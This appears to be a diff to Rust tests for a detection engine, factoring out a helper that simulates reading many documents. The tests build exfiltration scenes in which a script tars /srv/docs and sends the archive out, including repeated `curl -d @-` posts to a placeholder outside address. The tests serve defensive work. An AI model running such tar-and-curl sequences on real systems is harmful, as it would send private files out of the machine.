@@ -41,14 +41,18 @@ fn chain(alert: &Alert) -> Vec<String> {
     alert.chain.iter().map(|link| String::from_utf8_lossy(link.process.name()).into_owned()).collect()
 }
 
+fn read_documents(scene: &mut Scene, pid: u32) {
+    for number in 0..DOCUMENTS {
+        scene.read(pid, 1_000 + number, &format!("/srv/docs/{number}.pdf"), 200_000);
+    }
+}
+
 /// A script packs documents and sends the archive with `tool`.
 fn archive_and_send(scene: &mut Scene, tool: &str, argv: &[&str], bytes: u64) {
     scene.spawn(10, 100, "/bin/dash", &["sh", "/root/exfil.sh"]);
     scene.spawn(100, 101, "/usr/bin/tar", &["tar", "-czf", "/var/tmp/a.tar.gz", "/srv/docs"]);
     scene.write(101, 9_000, "/var/tmp/a.tar.gz");
-    for number in 0..DOCUMENTS {
-        scene.read(101, 1_000 + number, &format!("/srv/docs/{number}.pdf"), 200_000);
-    }
+    read_documents(scene, 101);
     scene.exit(101);
     scene.spawn(100, 102, tool, argv);
     scene.read(102, 9_000, "/var/tmp/a.tar.gz", 12_000_000);
@@ -111,9 +115,7 @@ fn data_connects_two_commands_typed_one_after_the_other() {
     scene.spawn_with(10, 50, "/bin/bash", &["bash"], [TTY; 3]);
     scene.spawn(50, 101, "/usr/bin/tar", &["tar", "-cf", "/opt/b", "/srv/docs"]);
     scene.write(101, 9_000, "/opt/b");
-    for number in 0..DOCUMENTS {
-        scene.read(101, 1_000 + number, &format!("/srv/docs/{number}.pdf"), 200_000);
-    }
+    read_documents(&mut scene, 101);
     scene.exit(101);
     scene.spawn(50, 102, "/opt/own-sender", &["own-sender"]);
     scene.read(102, 9_000, "/opt/b", 12_000_000);
@@ -130,9 +132,7 @@ fn many_short_senders_of_one_script_are_one_story() {
     scene.spawn(10, 100, "/bin/dash", &["sh", "/root/chunks.sh"]);
     scene.spawn(100, 101, "/usr/bin/tar", &["tar", "-cf", "/var/tmp/b", "/srv/docs"]);
     scene.write(101, 9_000, "/var/tmp/b");
-    for number in 0..DOCUMENTS {
-        scene.read(101, 1_000 + number, &format!("/srv/docs/{number}.pdf"), 200_000);
-    }
+    read_documents(&mut scene, 101);
     scene.exit(101);
     for pid in 200..700 {
         scene.spawn(100, pid, "/usr/bin/curl", &["curl", "-d", "@-", "http://198.51.100.2:443/"]);
